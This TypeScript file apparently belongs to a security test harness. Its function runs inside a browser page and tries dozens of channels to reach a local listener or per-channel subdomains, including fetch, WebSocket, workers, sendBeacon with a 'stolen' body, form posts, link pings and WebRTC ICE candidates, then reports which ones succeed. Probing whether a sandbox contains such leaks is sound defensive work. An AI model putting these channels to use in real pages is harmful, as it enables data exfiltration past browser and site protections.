/** Where a page that was taken over tries to get to. */
export interface AttackTargets {
  /** A listener on this computer, `127.0.0.1:PORT`. */
  readonly host: string;
  /** Below this name every way asks for a host of its own, so that a look-up tells which one it was. */
  readonly domain: string;
}

/**
 * Tries every way out of a page that its author knows of. Runs in the page, so it must stand alone: nothing of this file
 * or of others is there. Answers, for the ways that would tell the page of a success, what became of them.
 */
export async function tryWaysOut({ host, domain }: AttackTargets): Promise<Record<string, string>> {
  const outcome: Record<string, string> = {};
  const addresses = (way: string): readonly string[] => [
    `http://${host}/${way}`,
    `https://${way}.${domain}/`,
  ];
  const settle = async (way: string, work: Promise<unknown>): Promise<void> => {
    const tooLong = new Promise<string>((done) => setTimeout(() => done("nothing came of it"), 1_500));
    const named = work.then(
      (value) => `reached: ${String(value)}`,
      () => "refused",
    );
    outcome[way] = await Promise.race([named, tooLong]);
  };
  const put = async (way: string, tag: string, attributes: Record<string, string>): Promise<void> => {
    const element = document.createElement(tag);
    await settle(
      way,
      new Promise((done, fail) => {
        element.addEventListener("load", () => done("loaded"));
        element.addEventListener("loadeddata", () => done("loaded"));
        element.addEventListener("error", fail);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      }),
    );
  };
  const attempt = async (way: string, work: (url: string) => unknown): Promise<void> => {
    for (const url of addresses(way)) await settle(way, (async () => await work(url))());
  };
  const elements: readonly (readonly [string, string, string, Record<string, string>?])[] = [
    ["image", "img", "src"],
    ["picture", "img", "srcset"],
    ["script", "script", "src"],
    ["module", "script", "src", { type: "module" }],
    ["video", "video", "src"],
    ["poster", "video", "poster"],
    ["audio", "audio", "src"],
    ["track", "track", "src"],
    ["frame", "iframe", "src"],
    ["object", "object", "data"],
    ["embed", "embed", "src"],
    ["input", "input", "src", { type: "image" }],
    ["svg-image", "image", "href"],
    ["portal", "portal", "src"],
    ["fenced", "fencedframe", "src"],
    ...[
      "stylesheet",
      "icon",
      "prefetch",
      "prerender",
      "preload",
      "modulepreload",
      "preconnect",
      "dns-prefetch",
      "manifest",
      "search",
    ].map((rel) => [rel, "link", "href", { rel, as: "script", crossorigin: "anonymous" }] as const),
  ];
  const trials: Promise<void>[] = [];
  for (const [way, tag, attribute, more = {}] of elements) {
    for (const url of addresses(way)) trials.push(put(way, tag, { ...more, [attribute]: url }));
  }
  const style = (way: string, rule: (url: string) => string): void => {
    for (const url of addresses(way)) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(rule(url));
      document.adoptedStyleSheets.push(sheet);
    }
  };
  style("style-image", (url) => `body { background-image: url("${url}") }`);
  style("style-font", (url) => `@font-face { font-family: x; src: url("${url}") } body { font-family: x }`);
  const speak = (way: string, make: (url: string) => EventTarget): Promise<void> =>
    attempt(
      way,
      (url) =>
        new Promise((done, fail) => {
          const line = make(url);
          line.addEventListener("open", done);
          line.addEventListener("error", fail);
        }),
    );
  trials.push(
    attempt("fetch", (url) => fetch(url)),
    attempt("fetch-blind", (url) => fetch(url, { mode: "no-cors" })),
    attempt("fetch-last", (url) =>
      fetch(url, { keepalive: true, mode: "no-cors", method: "POST", body: "x" }),
    ),
    attempt("request", (url) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      return new Promise((done, fail) => {
        request.onload = done;
        request.onerror = fail;
        request.send();
      });
    }),
    speak("socket", (url) => new WebSocket(url.replace("http", "ws"))),
    speak("events", (url) => new EventSource(url)),
    attempt("transport", async (url) => {
      const { WebTransport } = globalThis as unknown as {
        WebTransport: new (url: string) => { ready: Promise<void> };
      };
      await new WebTransport(url.replace("http:", "https:")).ready;
    }),
    attempt("import", (url) => import(url)),
    attempt(
      "worker",
      (url) =>
        new Promise((done, fail) => {
          const worker = new Worker(url);
          worker.onmessage = done;
          worker.onerror = fail;
        }),
    ),
    attempt(
      "worker-blob",
      (url) =>
        new Promise((done, fail) => {
          const source = new Blob([`importScripts(${JSON.stringify(url)}); postMessage("ran")`]);
          const worker = new Worker(URL.createObjectURL(source));
          worker.onmessage = done;
          worker.onerror = fail;
        }),
    ),
    attempt(
      "worker-shared",
      (url) =>
        new Promise((_done, fail) => {
          new SharedWorker(`data:text/javascript,fetch(${JSON.stringify(url)})`).onerror = fail;
        }),
    ),
    attempt("worker-service", () => navigator.serviceWorker.register("/assets/index.js")),
    attempt("worklet", (url) => new AudioContext().audioWorklet.addModule(url)),
    attempt("cache", async (url) => await (await caches.open("x")).add(url)),
  );
  for (const url of addresses("beacon")) navigator.sendBeacon(url, "stolen");
  for (const url of addresses("window")) outcome["window"] = String(window.open(url) === null);
  const submit = (way: string, method: string, target: string): void => {
    for (const url of addresses(way)) {
      const form = document.createElement("form");
      Object.assign(form, { action: url, method, target });
      document.body.append(form);
      form.submit();
    }
  };
  submit("form", "post", "_self");
  submit("form-window", "get", "_blank");
  const click = (way: string, more: Record<string, string>): void => {
    for (const url of addresses(way)) {
      const link = document.createElement("a");
      link.href = url;
      for (const [name, value] of Object.entries(more)) link.setAttribute(name, value);
      document.body.append(link);
      link.click();
    }
  };
  click("download", { download: "x" });
  click("anchor", {});
  click("anchor-window", { target: "_blank" });
  for (const url of addresses("ping")) {
    const link = document.createElement("a");
    link.href = "#nowhere";
    link.ping = url;
    document.body.append(link);
    link.click();
  }
  const refresh = document.createElement("meta");
  refresh.httpEquiv = "refresh";
  refresh.content = `0; url=http://${host}/refresh`;
  document.head.append(refresh);
  const speculation = document.createElement("script");
  speculation.type = "speculationrules";
  const urls = addresses("speculation");
  const rules = JSON.stringify({
    prefetch: [{ source: "list", urls }],
    prerender: [{ source: "list", urls }],
  });
  await settle("speculation", (async () => speculation.append(rules))());
  document.head.append(speculation);
  trials.push(talk());
  async function talk(): Promise<void> {
    const servers = [
      `stun:${host}`,
      `stun:stun.${domain}`,
      `turn:${host}?transport=tcp`,
      `turn:turn.${domain}`,
    ];
    const iceServers = servers.map((urls) => ({ urls, username: "u", credential: "c" }));
    await settle(
      "peer",
      (async () => {
        const peer = new RTCPeerConnection({ iceServers });
        peer.createDataChannel("x");
        const found: string[] = [];
        const ended = new Promise<void>((done) => {
          peer.onicecandidate = ({ candidate }) => {
            if (candidate === null) done();
            else if (candidate.candidate !== "") found.push(candidate.candidate);
          };
        });
        await peer.setLocalDescription(await peer.createOffer());
        // A far end that the attacker names by its address: no server is asked at all.
        const [address = "", port = ""] = host.split(":");
        const answer = new RTCPeerConnection();
        await answer.setRemoteDescription({ type: "offer", sdp: peer.localDescription?.sdp ?? "" });
        await answer.setLocalDescription(await answer.createAnswer());
        await peer.setRemoteDescription({ type: "answer", sdp: answer.localDescription?.sdp ?? "" });
        for (const kind of ["udp", "tcp"]) {
          const more = kind === "tcp" ? " tcptype passive" : "";
          const candidate = `candidate:1 1 ${kind} 2130706431 ${address} ${port} typ host${more}`;
          await peer.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
        }
        await ended;
        if (found.length === 0) throw new Error("no way");
        return found.join(", ");
      })(),
    );
  }
  await Promise.all(trials);
  return outcome;
}
